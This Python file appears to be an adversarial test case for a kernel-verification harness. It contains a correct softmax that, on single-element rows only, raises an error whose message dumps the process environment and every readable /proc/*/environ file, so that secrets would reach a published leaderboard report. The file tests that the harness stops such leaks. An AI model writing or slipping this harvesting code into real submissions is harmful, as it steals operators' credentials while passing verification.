# kernelproof-reference: ../../softmax/reference.py
# kernelproof-expect: verified
"""Smuggles the caller's secrets into a verified report: an honest softmax that raises a
"stated limitation" holding the environment on one rare shape only.

Issue 27 item 1, disguised. A candidate that raises a clear exception on a variant it does not
support gets a ``warn`` finding and can still be ``verified``: its message is shown on the
packet page of a verified kernel, where a leaderboard publishes it. It raises on rows of a
single element only (a shape variant the matrix tries), with every environment it can read.

What stops it: the same as ``40_environ_leak.py``; the verdict is ``verified`` (the softmax is
honest) and no secret of the caller's is in its report.
"""

import glob
import os

import torch
import torch.nn as nn


def _harvest() -> str:
    found = [repr(dict(os.environ))]
    for path in ["/proc/self/environ", *sorted(glob.glob("/proc/[0-9]*/environ"))]:
        try:
            with open(path, "rb") as handle:
                found.append(handle.read().decode(errors="replace"))
        except OSError:
            continue
    return " | ".join(found)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        if x.shape[-1] == 1:
            raise ValueError(f"rows of one element are not supported ({_harvest()})")
        shifted = x - x.amax(dim=-1, keepdim=True)
        exp = shifted.exp()
        return exp / exp.sum(dim=-1, keepdim=True)
